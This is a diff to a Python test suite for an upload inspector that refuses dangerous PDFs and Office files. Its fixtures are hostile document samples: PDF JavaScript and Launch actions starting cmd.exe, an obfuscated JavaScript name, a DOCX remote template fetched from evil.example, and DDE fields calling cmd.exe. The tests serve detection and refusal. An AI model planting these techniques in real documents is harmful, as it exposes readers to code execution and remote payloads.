@@ -83,6 +83,22 @@ def zipped(parts: dict[str, bytes], **options: Any) -> bytes:
 
 
 PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
+TEMPLATE = (
+    b"""<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>"""
+)
+NEAR = b"""<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>
+<Relationship Type="http://x/hyperlink" Target="https://mujer.gob.do" TargetMode="External"/>"""
+
+
+def pdf(thing: bytes) -> bytes:
+    return b"%PDF-1.7\n1 0 obj\n" + thing + b"\nendobj\ntrailer\n<<>>\n%%EOF\n"
+
+
+def packed(objects: bytes) -> bytes:
+    """Objects as they are kept together, compressed."""
+    return b"<</Type/ObjStm/N 1/First 4>>stream\n" + zlib.compress(b"4 0 " + objects) + b"\nendstream"
+
+
 DOCX = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
 XLSX = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"})
 ODT = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<c/>"}, compress_type=0)
@@ -226,6 +242,33 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "PDF and zip": (lambda: PDF + DOCX, "a.pdf", "mixed"),
     "GIF and PDF": (lambda: drawn("GIF", comment=b"%PDF-1.4 x"), "a.gif", "mixed"),
     "GIF and script": (lambda: drawn("GIF", comment=b"*/<script>x()</script>"), "a.gif", "mixed"),
+    "PDF with a script": (lambda: pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf", "scripts"),
+    "PDF with a script under another spelling": (lambda: pdf(b"<</S/Java#53cript/JS 4 0 R>>"), "a.pdf", "scripts"),
+    "PDF that starts a program": (lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "a.pdf", "scripts"),
+    "PDF with a file inside": (lambda: pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "a.pdf", "attached"),
+    "PDF with a script in a compressed object": (lambda: pdf(packed(b"<</S/JavaScript/JS(1)>>")), "a.pdf", "scripts"),
+    "PDF of endless streams": (lambda: pdf(b"/a>>stream\n" * 30_000), "a.pdf", "unzips_too_far"),
+    "PDF that cannot be looked at": (lambda: pdf(b"<</Encrypt 9 0 R>>"), "a.pdf", "password"),
+    "document with a template elsewhere": (
+        lambda: zipped({"word/document.xml": b"", "word/_rels/settings.xml.rels": TEMPLATE}),
+        "a.docx",
+        "remote",
+    ),
+    "document that calls a program": (
+        lambda: zipped({"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
+        "a.docx",
+        "remote",
+    ),
+    "workbook that calls a program": (
+        lambda: zipped({"xl/workbook.xml": b"", "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
+        "a.xlsx",
+        "remote",
+    ),
+    "document with an object": (
+        lambda: zipped({"word/document.xml": b"", "word/embeddings/oleObject1.bin": b""}),
+        "a.docx",
+        "attached",
+    ),
     "document with macros": (
         lambda: zipped({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}),
         "a.docx",
@@ -310,6 +353,25 @@ def test_documents_keep_every_byte(data: bytes, name: str, mime_type: str, exten
     found = kept(data, name)
     assert (found.mime_type, found.extension, found.data) == (mime_type, extension, data)
     assert found.sha256 == found.original_sha256
+
+
+@pytest.mark.parametrize(
+    ("data", "name"),
+    [
+        (pdf(b"<</OpenAction[3 0 R/Fit]/URI(https://mujer.gob.do)>>"), "a.pdf"),
+        (pdf(packed(b"<</Type/Catalog>>")), "a.pdf"),
+        (pdf(b"<</Length 9>>stream\n(/JS 1) /JS\nendstream"), "a.pdf"),
+        (
+            zipped({"word/document.xml": b"<w:instrText>PAGE</w:instrText>", "word/_rels/document.xml.rels": NEAR}),
+            "a.docx",
+        ),
+    ],
+)
+def test_a_document_that_only_shows_itself_is_kept(data: bytes, name: str) -> None:
+    """Links that a reader follows, a template of the writer's own computer, and page numbers are harmless."""
+    found = inspect(data, claimed_name=name, claimed_mime="", accept="file")
+    assert isinstance(found, Inspected)
+    assert found.data == data
 
 
 def test_a_photo_under_another_photos_name_is_kept_as_what_it_is() -> None:
